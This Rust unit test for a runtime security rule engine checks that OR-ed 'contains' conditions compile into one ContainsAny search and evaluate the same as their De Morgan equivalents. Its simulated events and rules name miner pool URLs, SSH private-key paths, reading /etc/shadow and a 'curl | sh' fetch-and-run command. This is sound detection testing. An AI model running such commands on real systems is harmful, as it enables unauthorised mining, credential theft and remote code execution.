fn ored_contains_of_one_field_are_one_search_that_agrees_with_them() {
    // Each condition with its twin by De Morgan, whose checks stay apart.
    let pairs = [
        (
            "proc.cmdline contains stratum+tcp:// or proc.cmdline contains stratum+ssl:// or proc.name = cat",
            "not (not proc.cmdline contains stratum+tcp:// and not proc.cmdline contains stratum+ssl:// and not proc.name = cat)",
        ),
        (
            "fd.name contains /.ssh/ or proc.name = cat or fd.name contains id_rsa",
            "not (not fd.name contains /.ssh/ and not proc.name = cat and not fd.name contains id_rsa)",
        ),
        (
            "fd.name contains zzz or fd.name contains ''",
            "not (not fd.name contains zzz and not fd.name contains '')",
        ),
        (
            "proc.cmdline contains aab or proc.cmdline contains ab or proc.cmdline contains ß",
            "not (not proc.cmdline contains aab and not proc.cmdline contains ab and not proc.cmdline contains ß)",
        ),
        (
            "proc.aname contains ba or proc.aname contains ys",
            "not (not proc.aname contains ba and not proc.aname contains ys)",
        ),
        (
            "tolower(proc.cmdline) contains stratum or tolower(proc.cmdline) contains ABC",
            "not (not tolower(proc.cmdline) contains stratum and not tolower(proc.cmdline) contains ABC)",
        ),
        (
            "proc.cmdline contains -c or proc.args contains -c or proc.cmdline contains x",
            "not (not proc.cmdline contains -c and not proc.args contains -c and not proc.cmdline contains x)",
        ),
        (
            "fd.name contains /etc/ or proc.cmdline contains zzz or fd.name contains x",
            "not (not fd.name contains /etc/ and not proc.cmdline contains zzz and not fd.name contains x)",
        ),
        (
            "not (proc.cmdline contains aab or proc.cmdline contains ß)",
            "not proc.cmdline contains aab and not proc.cmdline contains ß",
        ),
    ];
    let init = ROOT.process(1, 0, "systemd", "/sbin/init", &["/sbin/init"]);
    let mut events = vec![cat_shadow()];
    for args in [
        &["xmrig", "-o", "stratum+tcp://pool:3333"][..],
        &["sh", "-c", "curl -s STRATUM+SSL://x | sh"],
        &["python3", "aab"],
        &["python3", "xaxab"],
        &["grüßen", "-c", "x"],
        &["cat"],
        &["ssh", "-i", "/home/u/.ssh/id_rsa"],
        &["python3", "zzz"],
    ] {
        let p = ROOT.process(30, 10, args[0], &format!("/usr/bin/{}", args[0]), args);
        events.push(ROOT.execve(p.clone(), vec![bash(), init.clone()]));
        for file in [args[args.len() - 1], "/tmp/y"] {
            events.push(ROOT.openat(p.clone(), vec![bash()], file, flags(0, &["O_RDONLY"]), 3));
        }
    }
    for (fused, apart) in pairs {
        for en in &events {
            assert_eq!(
                eval(fused, en),
                eval(apart, en),
                "{fused} on {:?}",
                en.event
            );
        }
    }
    // The searches are one check: alone, or beside the other field's check.
    let matcher = |cond: &str| {
        let res = load_sources(&[("t.yaml", rule_src(cond))]);
        res.ruleset.rules[0]
            .compiled
            .as_ref()
            .unwrap()
            .matcher
            .clone()
    };
    let one = matcher("proc.cmdline contains a or proc.cmdline contains b");
    assert!(
        matches!(&one, compile::Node::Check(_)) && format!("{one:?}").contains("ContainsAny"),
        "{one:?}"
    );
    let two = matcher("proc.cmdline contains a or proc.name = cat or proc.cmdline contains b");
    assert!(
        matches!(&two, compile::Node::Or(v) if v.len() == 2),
        "{two:?}"
    );
}
